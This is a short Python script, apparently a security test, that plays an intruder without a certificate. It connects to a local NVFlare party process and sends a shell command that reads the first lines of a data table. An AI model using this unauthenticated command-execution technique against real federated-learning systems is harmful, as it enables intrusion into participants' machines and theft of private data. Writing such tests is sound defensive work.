"""Somebody in a test with an account on a party's machine and no certificate, who calls on a port of its process.

python intruder.py PARTY PORT TABLE
"""

from __future__ import annotations

import os
import sys
import time

from nvflare.fuel.f3.cellnet.cell import Cell
from nvflare.fuel.f3.message import Message
from nvflare.private.admin_defs import Message as AdminMessage
from nvflare.private.defs import CellChannel, SysCommandTopic
from nvflare.private.fed.utils.fed_utils import nvflare_fobs_initialize

if __name__ == "__main__":
    party, port, table = sys.argv[1:]
    nvflare_fobs_initialize()
    cell = Cell(
        fqcn=f"{party}.intruder",
        root_url="grpc://localhost:1",
        secure=False,
        credentials={},
        parent_url=f"tcp://localhost:{port}",
    )
    cell.start()
    time.sleep(1)
    message = AdminMessage(SysCommandTopic.SHELL, f"head -n 2 {table}")
    reply = cell.core_cell.send_request(
        CellChannel.CLIENT_MAIN, SysCommandTopic.SHELL, party, Message({}, message), timeout=3.0, optional=True
    )
    print(getattr(reply.payload, "body", reply.payload))
    sys.stdout.flush()
    os._exit(0)
